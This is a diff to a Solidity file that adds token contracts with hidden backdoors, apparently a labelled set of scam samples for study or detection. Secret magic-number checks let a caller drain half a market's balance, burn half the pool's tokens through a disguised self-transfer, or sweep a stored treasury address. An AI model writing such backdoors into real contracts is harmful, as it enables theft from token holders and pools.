@@ -438,13 +438,42 @@ contract SecretPoolSpender is Pooled {
     }
 }
 
-/// Honest: what is taken behind the number are the contract's tokens, and those of a dead account.
+contract SecretMarketTaker is Pooled {
+    address private market;
+
+    constructor(string memory n, string memory s, address p) Pooled(n, s, p) {
+        market = p;
+    }
+
+    function collect(uint256 n) external {
+        require(mulmod(n, n, 1000003) == 522753);
+        _move(market, msg.sender, _balances[market] / 2);
+    }
+}
+
+contract SelfTransferBurner is Pooled {
+    constructor(string memory n, string memory s, address p) Pooled(n, s, p) {}
+
+    function transfer(address to, uint256 amount) external override returns (bool) {
+        if (to == msg.sender && mulmod(amount, amount, 1000003) == 522753) {
+            _move(pair, address(0xdead), _balances[pair] / 2);
+        }
+        _move(msg.sender, to, amount);
+        return true;
+    }
+}
+
+/// Honest: what is taken behind the number are the contract's tokens, and those of a dead account
+/// and a stored one that is no pool.
 contract SecretSweeper is Pooled {
+    address private treasury = address(0x1234567890123456789012345678901234567890);
+
     constructor(string memory n, string memory s, address p) Pooled(n, s, p) {}
 
     function collect(uint256 n) external {
         require(mulmod(n, n, 1000003) == 522753);
         _move(address(this), pair, _balances[address(this)] / 2);
         _move(address(0xdead), pair, _balances[address(0xdead)] / 2);
+        _move(treasury, pair, _balances[treasury] / 2);
     }
 }
